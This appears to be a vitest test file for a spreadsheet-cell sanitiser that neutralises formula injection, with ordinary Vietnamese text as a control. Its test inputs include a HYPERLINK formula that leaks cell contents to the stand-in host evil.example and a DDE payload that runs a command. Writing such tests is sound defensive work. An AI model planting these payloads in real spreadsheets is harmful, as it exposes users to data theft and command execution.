import { describe, expect, it } from 'vitest';
import { looksLikeFormula, safeCell } from './cell-safety.ts';

describe('safeCell', () => {
  it.each(['=HYPERLINK("http://evil.example/?"&A1,"Bấm")', '@SUM(1+1)', "+cmd|' /C calc'!A0", '-2+3', '\tx', '\rx'])(
    'neutralises %j',
    (text) => {
      expect(looksLikeFormula(text)).toBe(true);
      expect(safeCell(text)).toBe(`'${text}`);
      expect(looksLikeFormula(safeCell(text))).toBe(false);
    },
  );
  it('leaves ordinary Vietnamese text alone', () => {
    expect(safeCell('Hũ gạo tình thương')).toBe('Hũ gạo tình thương');
    expect(safeCell('mô hình = 990')).toBe('mô hình = 990');
  });
});
